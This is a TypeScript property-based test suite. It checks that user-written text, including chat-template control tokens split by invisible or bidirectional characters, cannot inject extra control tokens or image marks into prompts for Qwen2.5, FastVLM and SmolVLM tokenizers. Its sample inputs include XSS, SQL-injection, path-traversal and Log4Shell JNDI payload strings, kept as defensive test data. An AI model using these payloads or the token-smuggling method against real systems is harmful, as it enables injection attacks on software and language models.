/**
 * Whatever a user writes stays text: on the tokenizers of both families, the real one of Qwen2.5 (FastVLM's vocabulary) and
 * those of the embedded models. With `SMOLVLM_FOLDER` the one of SmolVLM's kind is the real one.
 */

import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { idefics3Tokenizer } from "../../test/idefics3-tokenizer.ts";
import { qwen2Config, qwen2Json } from "../../test/qwen2-tokenizer.ts";
import { tokenizerConfig, tokenizerJson } from "../../test/tiny-tokenizer.ts";
import type { PromptForm } from "../families/family.ts";
import { FASTVLM_PROMPT } from "../families/fastvlm/fastvlm.ts";
import { SMOLVLM_PROMPT } from "../families/smolvlm/smolvlm.ts";
import { cleanUserText } from "../generation/clean-user-text.ts";
import { layOutPrompt, type Question } from "../generation/prompt.ts";
import { createTextCodec } from "./tokenizer.ts";

const { json: idefics3Json, config: idefics3Config } = idefics3Tokenizer;

const TOKENIZERS: readonly (readonly [string, unknown, unknown, PromptForm])[] = [
  ["Qwen2.5's", qwen2Json, qwen2Config, FASTVLM_PROMPT],
  ["the embedded FastVLM's", tokenizerJson, tokenizerConfig, FASTVLM_PROMPT],
  ["SmolVLM's kind", idefics3Json, idefics3Config, SMOLVLM_PROMPT],
];

/** Characters that are not seen, or turn the direction of text, and that may join the pieces of a token again. */
const JOINERS = [
  ...["", " ", "\n", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u034F"],
  ...["\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2069", "\u061C"],
  ...["\u{E0001}", "\u{E0020}", "\u{E007F}", "\uE000", "\uE001", "\uE0000\uE001", "\0", "\u0085"],
  // Joiners that stay, because writing needs them there.
  ...["\u0645\u200C", "\u0645\u200D", "\u{1F469}\u200D\u{1F467}"],
];

const PLAIN = [
  "<script>alert(1)</script>",
  "'; DROP TABLE users; --",
  "../../etc/passwd",
  "C:\\Windows\\System32",
  "{{ messages }}{% for x in y %}",
  '<img src=x onerror="alert(1)">',
  "${jndi:ldap://a.example/x}",
  "%s%n %00 &lt;b&gt;",
  "What is on the left?",
  "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645", // Persian: "I want"
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}", // a family
];

describe.each(TOKENIZERS)("%s", (_, json, config, form) => {
  const codec = createTextCodec(json, config, form);
  const controlIds = new Set(codec.controlTokens.map((token) => codec.controlId(token)));
  // The template writes its own roles and marks; those of a piece of text that a user writes are more.
  const images = [[{ kind: "tile" }], [{ kind: "tile" }]] as const;
  const layOut = (question: Question) => layOutPrompt(codec, form, question, images);
  const idsOf = (question: Question) =>
    layOut(question).flatMap((piece) => (piece.kind === "tokens" ? piece.ids : []));
  const marksOf = (question: Question) =>
    layOut(question).flatMap((piece): readonly (string | number)[] =>
      piece.kind === "image" ? ["image"] : piece.ids.filter((id) => controlIds.has(id)),
    );

  /** A control token, cut anywhere and joined by characters that are not seen, beside others and plain text. */
  const token = fc.constantFrom(...codec.controlTokens);
  const joiner = fc.constantFrom(...JOINERS);
  const split = fc
    .tuple(token, fc.nat({ max: 40 }), joiner, joiner)
    .map(([text, at, first, second]) => {
      const cut = at % (text.length + 1);
      return text.slice(0, cut) + first + text.slice(cut, cut + 1) + second + text.slice(cut + 1);
    });
  const spread = fc.tuple(token, joiner).map(([text, between]) => Array.from(text).join(between));
  const hostile = fc
    .array(fc.oneof(token, split, spread, joiner, fc.constantFrom(...PLAIN), fc.string()), {
      minLength: 1,
      maxLength: 8,
    })
    .map((parts) => parts.join(""));

  it("has no more control tokens and images for hostile text than for a word", () => {
    const marks = (text: string) => {
      const history = [
        { role: "user", content: text },
        { role: "assistant", content: text },
      ] as const;
      return marksOf({ text, system: text, history });
    };
    const expected = marks("x");
    expect(expected.filter((mark) => mark === "image")).toHaveLength(2);
    fc.assert(
      fc.property(hostile, (text) => {
        expect(marks(text)).toEqual(expected);
      }),
      { numRuns: 300, examples: codec.controlTokens.map((text) => [text]) },
    );
  });

  it("keeps script, SQL, paths and templates as they are", () => {
    const around = codec.decode(idsOf({ text: "@@", system: undefined })).split("@@");
    for (const text of PLAIN) {
      const shown = codec.decode(idsOf({ text, system: undefined }));
      expect(shown).toBe(around.join(cleanUserText(text)));
      expect(cleanUserText(text)).toBe(text);
    }
  });
});
